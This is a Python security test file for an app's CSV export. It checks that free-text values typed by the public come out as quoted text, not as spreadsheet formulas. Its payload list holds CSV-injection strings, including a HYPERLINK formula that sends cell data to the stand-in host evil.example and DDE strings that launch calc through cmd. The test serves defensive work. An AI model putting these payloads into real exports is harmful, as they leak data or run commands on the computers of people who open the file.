"""Issue 14, finding 12: CSV injection. What the public typed (a free-text country answer, a
recruitment company) must reach a spreadsheet as text, never as a formula (OWASP "CSV
Injection": prefix a cell beginning with = + - @ tab or CR with a single quote, quote every
field)."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable

from sqlalchemy import select

from bot.keys import SESSIONS
from storage.models import Case
from tests.console.conftest import seed_case
from tests.security.conftest import Client
from tests.support.server import RunningSiaga

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # spreadsheets skip leading blanks before a formula
]


async def test_values_typed_by_the_public_are_exported_as_text(
    app: RunningSiaga, logged_in: Callable[[str], Awaitable[Client]]
) -> None:
    for payload in PAYLOADS:
        await seed_case(app.app[SESSIONS], fields={"country": payload, "p3mi": payload})
    sari = await logged_in("sari")
    async with sari.http.get(f"{app.url}/api/console/export.csv") as resp:
        assert resp.status == 200
        body = await resp.text()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == 1 + len(PAYLOADS)
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in TRIGGERS, (cell, row)
    async with app.app[SESSIONS]() as session:
        stored = (await session.execute(select(Case.country, Case.recruitment_company))).all()
    # Nothing is lost: each value is there as stored, behind the quote that makes it text.
    assert {(row[7], row[8]) for row in rows[1:]} == {(f"'{c}", f"'{r}") for c, r in stored}
    # Every field is quoted, so a separator inside a value cannot start a new cell.
    assert body.splitlines()[1].startswith('"')
